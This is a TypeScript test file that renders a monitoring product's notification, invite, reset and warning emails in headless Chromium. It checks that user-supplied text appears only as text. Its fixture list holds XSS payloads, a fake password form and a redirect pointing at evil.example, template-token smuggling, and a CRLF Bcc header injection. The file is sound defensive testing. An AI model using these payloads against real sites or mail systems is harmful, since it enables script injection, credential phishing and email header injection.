/** @module-tag slow */
import { languages } from '@clearway/contract/monitor/user/schema.ts'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { buildLinkLetter, buildWarningLetter } from '../../src/idp/letter.ts'
import { buildRunMail } from '../../src/monitor/notification/mail/model.ts'
import { buildMentionMail } from '../../src/monitor/notification/mention/model.ts'
import type { RunPayload } from '../../src/monitor/notification/model.ts'

// Renders each mail in Chromium, with markup in each text that others write, and compares it with the mail of harmless texts.

let browser: Browser
let tab: Page
const requests: string[] = []
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: process.env.TEST_BROWSER!, args: ['--no-sandbox'] })
  tab = await browser.newPage()
  await tab.route('**', (route) => (requests.push(route.request().url()), route.abort()))
  tab.on('dialog', (dialog) => (requests.push(dialog.message()), dialog.dismiss()))
})
afterAll(() => browser.close())

const attacks = [
  '<script>alert(1)</script>',
  '"><img src=https://evil.example/p onerror=alert(2)>',
  "'><svg/onload=alert(3)><a href='javascript:alert(4)'>click</a>",
  '</td></tr></table><form action=https://evil.example><input name=password><button>',
  '</title></style><style>body{display:none}</style><link rel=stylesheet href=https://evil.example/c>',
  '<!--><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">-->',
  '&lt;b&gt;&#60;iframe src=https://evil.example&#62;',
  '{scan}{name}{product}{author}{run}{date}$&$`$1<b>',
  '</blockquote></main></body></html><h1>Your account</h1>',
  '\u2028<b>\r\nBcc: <x@evil.example>\r\n\r\n<b>\0',
]
const harmless = 'Harmless'

type Built = { subject: string; html: string }
const mailBuilders: Record<string, (text: string, language: (typeof languages)[number]) => Built[]> = {
  'of a run': (text, language) =>
    (
      [
        ['completed', 'new-issues'],
        ['failed', 'failed'],
        ['cancelled', 'finished'],
      ] as const
    ).map(([status, event]) =>
      buildRunMail(
        {
          event,
          scanId: 's',
          scanName: text,
          language,
          url: `https://clearway.example.org/monitor/scans/${text}`,
          run: {
            number: 1,
            status,
            startedAt: '2026-03-01T10:00:00Z',
            endedAt: '2026-03-01T10:10:00Z',
            score: 0.5,
            pages: { completed: 1, failed: 2, walled: 0, overLimit: 0 },
            openIssues: { critical: 1, serious: 1, moderate: 1, minor: 1, needsReview: 1 },
            change: { new: 1, fixed: 1, back: 1, issuesGone: 1, notRechecked: 1, ignored: 1 },
            problem: text,
          },
        } satisfies RunPayload,
        text,
      ),
    ),
  'of a mention': (text, language) => [
    buildMentionMail({
      event: 'mentioned',
      scanName: text,
      author: text,
      issue: text,
      text,
      url: `https://clearway.example.org/monitor/issues?issue=${text}`,
      settingsUrl: `https://clearway.example.org/monitor/account?${text}`,
      language,
    }),
  ],
  'with a link': (text, language) =>
    (['invite', 'reset', 'email'] as const).map((kind) =>
      buildLinkLetter({
        kind,
        language,
        receiver: 'ann@example.org',
        product: text,
        name: text,
        link: `https://clearway.example.org/realms/clearway/welcome/${text}`,
        expiresAt: new Date('2026-03-01'),
      }),
    ),
  'of a warning': (text, language) =>
    (['guessed', 'email-changed'] as const).map((kind) =>
      buildWarningLetter({ kind, language, receiver: 'ann@example.org', product: text, name: text }),
    ),
}

/** Elements with their attributes, without the values that a text may be part of. */
async function renderElements({ html }: Built) {
  await tab.setContent(html)
  return tab.evaluate(() => ({
    elements: Array.from(document.querySelectorAll('*'), (element) =>
      [
        element.localName,
        ...element.getAttributeNames().map((name) => (name === 'href' ? name : `${name}=${element.getAttribute(name)}`)),
      ].join(' '),
    ),
    comments: document.createTreeWalker(document, NodeFilter.SHOW_COMMENT).nextNode()?.nodeValue ?? null,
    hosts: Array.from(document.links, (link) => new URL(link.href).origin),
    text: document.body.textContent,
  }))
}

it.each(Object.entries(mailBuilders))('a mail %s shows texts of others as text', { timeout: 120_000 }, async (_, buildMails) => {
  for (const language of languages) {
    const outlines: Awaited<ReturnType<typeof renderElements>>[] = []
    for (const mail of buildMails(harmless, language)) outlines.push(await renderElements(mail))
    for (const attack of attacks)
      for (const [index, mail] of buildMails(attack, language).entries()) {
        const { elements, comments, hosts, text } = await renderElements(mail)
        const outline = outlines[index]!
        expect({ attack, elements, comments, hosts }).toEqual({
          attack,
          elements: outline.elements,
          comments: null,
          hosts: outline.hosts,
        })
        // The text itself is shown, so that it was neither executed nor removed.
        const visible = attack
          .replaceAll(/[\r\n\0\u2028]/g, ' ')
          .split(/\s+/)
          .find((word) => /[<&]/.test(word))!
        expect(text).toContain(visible)
        expect(mail.subject).not.toMatch(/[\r\n]/)
      }
  }
  expect(requests).toEqual([])
})
